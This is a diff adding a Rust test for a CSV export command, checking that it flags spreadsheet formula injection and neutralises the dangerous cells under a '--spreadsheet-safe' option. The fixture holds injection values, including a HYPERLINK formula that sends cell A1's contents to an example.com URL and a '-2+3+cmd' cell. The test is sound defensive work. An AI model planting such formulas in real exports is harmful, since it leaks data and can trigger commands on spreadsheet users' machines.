@@ -161,6 +161,32 @@ fn failing_rows_are_named_by_the_lines_they_are_on() {
 }
 
 #[test]
+fn an_export_for_a_spreadsheet_makes_formulas_text() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("users.csv"),
+        "name,phone_number,cognito:username\n\
+         \"=HYPERLINK(\"\"https://example.com/?\"\"&A1)\",+15555550100,ann\n\
+         -2+3+cmd,,ben\n\
+         Plain Name,+15555550101,cat\n",
+    )
+    .unwrap();
+    import(dir.path(), "users.csv", 0);
+    let export = |extra: &[&str]| {
+        let out = userpool(dir.path(), &[&["users", "export", "--pool", "pool.sqlite3"][..], extra].concat());
+        (ok(&out), String::from_utf8_lossy(&out.stderr).into_owned())
+    };
+    let (csv, err) = export(&[]);
+    assert!(csv.contains("\"=HYPERLINK(\"\"https://example.com/?\"\"&A1)\"") && csv.contains("\n-2+3+cmd,"), "{csv}");
+    assert!(err.contains("note: 2 value(s) would run as formulas in a spreadsheet"), "{err}");
+    let (csv, err) = export(&["--spreadsheet-safe"]);
+    assert!(csv.contains("\"'=HYPERLINK(") && csv.contains("\n'-2+3+cmd,"), "{csv}");
+    assert!(csv.contains("+15555550100") && !csv.contains("'+1555"), "phone numbers are not formulas:\n{csv}");
+    assert!(csv.contains("Plain Name,"), "{csv}");
+    assert!(err.contains("note: 2 value(s) that would run as formulas were written with a '"), "{err}");
+}
+
+#[test]
 fn list_and_export_read_a_pool_that_is_there_and_make_none() {
     let dir = tempfile::tempdir().unwrap();
     for command in ["list", "export"] {
